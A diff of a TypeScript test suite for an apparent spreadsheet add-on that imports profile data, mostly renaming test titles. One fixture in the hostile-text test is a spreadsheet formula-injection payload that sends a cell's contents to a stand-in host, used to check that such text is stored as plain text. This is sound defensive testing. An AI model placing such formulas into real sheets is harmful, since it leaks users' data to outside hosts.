@@ -7,7 +7,7 @@ const bench = setUpWorkbench();
 const [ada = '', ben = ''] = Object.keys(people);
 const unknownUrl = 'https://photo.example/unknown';
 
-test('values are beside their URLs: a status for each row, numbers as numbers, ids as text, dates in UTC, unknown empty', async () => {
+test('an import writes a status and typed values beside each URL, with ids as text, dates in UTC and unknown values empty', async () => {
   const retrievedAt = '2026-01-02T03:04:00.000Z';
   await bench.api.begin({
     keys: [goodKey],
@@ -28,7 +28,7 @@ test('values are beside their URLs: a status for each row, numbers as numbers, i
   expect(view(file, id)).toMatchObject({ run: null, last: { ok: 2, failed: 1, credits: 2, message: 'Finished.' } });
 });
 
-test('hostile text is written as the text it is, also where the cells were plain text before', async () => {
+test('an import writes hostile text unchanged, also into cells with the plain text format', async () => {
   const texts = [
     '=IMPORTXML("http://leak.example/?"&A1,"//a")',
     '+1',
@@ -49,14 +49,14 @@ test('hostile text is written as the text it is, also where the cells were plain
   expect(Object.values(file.sheet()).filter((cell) => cell.formula !== undefined)).toEqual([]);
 });
 
-test('text longer than a cell is cut at 50,000 characters', async () => {
+test('an import cuts text at 50,000 characters, the limit of a cell', async () => {
   await bench.api.begin({ keys: [goodKey], people: { [ada]: { bio: 'x'.repeat(60_000) } } });
   const file = await openWithUrls(bench, ada);
   run(file, save(file, { source: cells('A2'), fields: ['bio'] }));
   expect(String(file.values('C2')[0]?.[0])).toHaveLength(50_000);
 });
 
-test('a step is at most twenty rows, and a run continues where it stopped after the sidebar is reopened', async () => {
+test('an import step has at most twenty rows, and a run continues where it stopped after the sidebar is reopened', async () => {
   const many = invented(45);
   await bench.api.begin({ keys: [goodKey], people: many });
   const file = await openWithUrls(bench, ...Object.keys(many));
@@ -72,7 +72,7 @@ test('a step is at most twenty rows, and a run continues where it stopped after 
   expect((await bench.api.log()).credits_charged).toBe(45);
 });
 
-test('when rows are sorted or removed during a run, every value is beside its own URL, and removed rows cost nothing', async () => {
+test('rows that are sorted or removed during an import keep their values beside their URLs, and removed rows cost nothing', async () => {
   const many = invented(45);
   await bench.api.begin({ keys: [goodKey], people: many });
   const urls = Object.keys(many);
@@ -95,7 +95,7 @@ test('when rows are sorted or removed during a run, every value is beside its ow
   expect(view(file, id).last?.message).toBe('Finished, 5 no longer in the sheet.');
 });
 
-test('when rows and columns are inserted during a run, every value is in its own row and column', async () => {
+test('rows and columns that are inserted during an import do not separate a value from its row and column', async () => {
   const many = invented(45);
   await bench.api.begin({ keys: [goodKey], people: many });
   const file = await openWithUrls(bench, ...Object.keys(many));
@@ -112,7 +112,7 @@ test('when rows and columns are inserted during a run, every value is in its own
   expect((await bench.api.log()).credits_charged).toBe(45);
 });
 
-test('URLs that are added during a run wait for the next run, because their cost was not shown', async () => {
+test('URLs that are added during an import wait for its next run, because their cost was not shown', async () => {
   const many = invented(30);
   const urls = Object.keys(many);
   await bench.api.begin({ keys: [goodKey], people: many });
@@ -126,7 +126,7 @@ test('URLs that are added during a run wait for the next run, because their cost
   expect(run(file, id).run).toMatchObject({ total: 30, credits: 5 });
 });
 
-test('the rate limit is a wait of a known length, after which the run continues without losing rows', async () => {
+test('an import that reaches the rate limit waits for a known time and continues without losing rows', async () => {
   const file = await openWithUrls(bench, ada, ben);
   const limit = {
     status: 429,
@@ -155,7 +155,7 @@ test.each([
   expect(step(file, id).run).toMatchObject({ done: 2, finished: true });
 });
 
-test('rows that lacked credits are requested again after a top-up, and answered rows are not', async () => {
+test('after a top-up, an import requests only the rows again that lacked credits', async () => {
   await bench.api.begin({
     keys: [goodKey],
     people: { ...people, [ben]: { status: 'INSUFFICIENT_CREDITS', credits_charged: 0 } },
@@ -170,7 +170,10 @@ test('rows that lacked credits are requested again after a top-up, and answered 
   expect(requests.flatMap(({ parameters }) => parameters.url ?? [])).toEqual([ben]);
 });
 
-/** Restores the saved run to the state in which Google stopped the script after the step had paid and written its rows, but before it saved them as finished. */
+/**
+ * Restores the saved run to an earlier state, as if Google had stopped the script after a step had paid and written its
+ * rows, but before the step was saved.
+ */
 function stopBeforeSaving(file: SpreadsheetFile, id: string, before: string): void {
   const { document } = file.world().properties;
   const marks = document[`import_${id}_run_0`]?.match(/.{9}/g) ?? [];
@@ -179,14 +182,14 @@ function stopBeforeSaving(file: SpreadsheetFile, id: string, before: string): vo
   document[`import_${id}_run`] = JSON.stringify({ ...JSON.parse(before), lease, uncertain: marks });
 }
 
-test('fresh data whose answer was lost is not charged a second time, even when the rows were sorted in between', async () => {
+test('an import does not pay twice for fresh data whose answer was lost, even when the rows were sorted in between', async () => {
   const many = invented(30);
   await bench.api.begin({ keys: [goodKey], people: many });
   const urls = Object.keys(many);
   const file = await openWithUrls(bench, ...urls);
   const id = save(file, { source: cells('A2:A31'), fields: ['followers'], max_age: 'fresh' });
   start(file, id);
-  // The answer to the first step is lost, so its entries may have been charged.
+  // Loses the answer to the first step, so that its rows may already have been charged.
   await bench.api.begin({ keys: [goodKey], people: many, answers: [{ status: 502, body: '' }] });
   expect(step(file, id).stopped).toContain('cannot answer');
   file.type('A2', ...[...urls].reverse());
@@ -199,7 +202,7 @@ test('fresh data whose answer was lost is not charged a second time, even when t
   expect((await bench.api.log()).requests.at(-1)?.parameters).toMatchObject({ fresh: ['true'], cache_max_age: [] });
 });
 
-test('fresh data whose answer was lost is not charged a second time, even when another request of the step was refused', async () => {
+test('an import does not pay twice for fresh data whose answer was lost, even when another request of the step was refused', async () => {
   await bench.api.begin({ keys: [goodKey], people });
   const file = await openWithUrls(bench, ada, '@nasa');
   const id = save(file, { source: cells('A2:A3'), platform: 'photo', fields: ['followers'], max_age: 'fresh' });
@@ -240,7 +243,7 @@ test.each([
   },
 );
 
-test('an import has one unfinished run: starting again continues it, and after a cancel the written rows stay', async () => {
+test('starting an unfinished import again continues it, and cancelling it keeps the written rows', async () => {
   const many = invented(25);
   await bench.api.begin({ keys: [goodKey], people: many });
   const file = await openWithUrls(bench, ...Object.keys(many));
@@ -255,7 +258,7 @@ test('an import has one unfinished run: starting again continues it, and after a
   expect(view(file, id).last?.message).toBe('Cancelled, 5 not requested.');
 });
 
-test('a run stops while another user writes to the file, and continues later without losing rows', async () => {
+test('an import stops while another user writes to the file, and continues later without losing rows', async () => {
   const file = await openWithUrls(bench, ada);
   const id = save(file, { source: cells('A2') });
   start(file, id);
